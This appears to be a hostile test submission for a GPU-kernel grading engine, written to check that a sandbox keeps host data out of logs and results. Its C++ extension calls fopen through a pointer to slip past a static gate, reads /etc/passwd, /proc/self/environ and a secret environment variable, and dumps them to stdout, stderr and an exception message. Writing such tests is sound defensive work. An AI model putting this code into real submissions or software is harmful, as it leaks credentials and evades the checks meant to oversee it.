# expect: runtime_error — read_host_file: from C++ reads /etc/passwd and the environment (CUDAPERF_SECRET, HOME, PATH), prints them to stdout and stderr and raises them in a TORCH_CHECK message; the result's reason and log must contain no line of /etc/passwd and not the secret's value
"""`std::fopen` through a pointer (the gate matches a call of fopen and an include of a file by path),
`getenv` is not a banned call.  The text leaves three ways: stdout, stderr (both end up in logs) and the
exception message (which becomes the result's reason).  A sandbox with no /etc/passwd visible and
a scrubbed environment leaks nothing; an engine that forwards worker output verbatim leaks it all."""
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cuda_source = """
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>

__global__ void scale_add_kernel(const float* a, const float* b, float* out, float alpha, int64_t n) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i < n) out[i] = a[i] * alpha + b[i];
}

torch::Tensor scale_add_launch(torch::Tensor a, torch::Tensor b, double alpha) {
    auto out = torch::empty_like(a);
    int64_t n = a.numel();
    scale_add_kernel<<<(unsigned)((n + 255) / 256), 256, 0, at::cuda::getCurrentCUDAStream()>>>(
        a.data_ptr<float>(), b.data_ptr<float>(), out.data_ptr<float>(), (float)alpha, n);
    return out;
}
"""

cpp_source = """
#include <cstdio>
#include <cstdlib>
#include <string>

torch::Tensor scale_add_launch(torch::Tensor a, torch::Tensor b, double alpha);

static std::string slurp(const char* path) {
    auto* reader = &std::fopen;
    std::string text;
    if (FILE* f = reader(path, "r")) {
        char buf[4096];
        size_t got;
        while ((got = std::fread(buf, 1, sizeof(buf), f)) > 0 && text.size() < 65536) text.append(buf, got);
        std::fclose(f);
    }
    return text;
}

static std::string env(const char* name) {
    const char* v = std::getenv(name);
    return std::string(name) + "=" + (v ? v : "<unset>") + "\\n";
}

torch::Tensor scale_add(torch::Tensor a, torch::Tensor b, double alpha) {
    auto out = scale_add_launch(a, b, alpha);
    std::string report = env("CUDAPERF_SECRET") + env("HOME") + env("PATH") + slurp("/etc/passwd")
                         + slurp("/proc/self/environ");
    std::printf("device diagnostics:\\n%s\\n", report.c_str());
    std::fflush(stdout);
    std::fprintf(stderr, "device diagnostics:\\n%s\\n", report.c_str());
    TORCH_CHECK(false, "unsupported device configuration:\\n", report);
    return out;
}
"""

ext = load_inline(name="hostile_read_host_file", cpp_sources=cpp_source, cuda_sources=cuda_source,
                  functions=["scale_add"])


class ModelNew(nn.Module):
    def __init__(self, alpha: float):
        super().__init__()
        self.alpha = alpha

    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return ext.scale_add(a.contiguous(), b.contiguous(), self.alpha)
